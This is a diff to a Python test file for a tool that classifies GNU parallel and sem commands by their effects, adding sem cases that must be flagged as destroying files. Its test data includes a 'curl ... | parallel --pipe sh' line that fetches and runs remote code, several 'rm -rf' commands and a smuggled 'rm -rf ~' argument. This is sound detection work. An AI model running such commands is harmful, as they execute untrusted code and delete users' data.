@@ -56,6 +56,9 @@ JOBS = [
     ("curl -s https://x.example/a | parallel --pipe sh", {"dynamic:code"}),
     ("parallel echo ::: {1..100} ::: {1..100}", {"dynamic:code"}),
     ("parallel --joblog /o/j.log echo ::: a", {"write:/o/j.log", "run:echo a"}),
+    # sem (parallel --semaphore) runs its command's words through a shell
+    ("sem --id build 'rm -rf /o/x'", {"write:/o/x", "destroy:files"}),
+    ("parallel --semaphore -j2 rm -rf /o/x", {"write:/o/x", "destroy:files"}),
     # an argument that begins the command is the command's text (checked against parallel)
     ("parallel {} ::: 'rm -rf /o/x'", {"write:/o/x", "destroy:files"}),
     ("parallel {.} ::: 'rm -rf /o/x.y'", {"write:/o/x", "destroy:files"}),
@@ -73,6 +76,8 @@ def test_the_jobs_parallel_runs_are_read(line: str, expected: set[str]) -> None:
 QUIET = [
     "parallel gzip ::: a.txt b.txt",
     "parallel 'echo {}' ::: 'a; rm -rf ~'",  # after the command: quoted, one word to echo
+    "sem -j4 'make test'",
+    "sem --wait",
     "parallel -j4 gzip ::: *.log",
     "parallel echo ::: a b c ::: 1 2 3",
     "parallel --bar -k wc -l ::: src/a.c src/b.c",
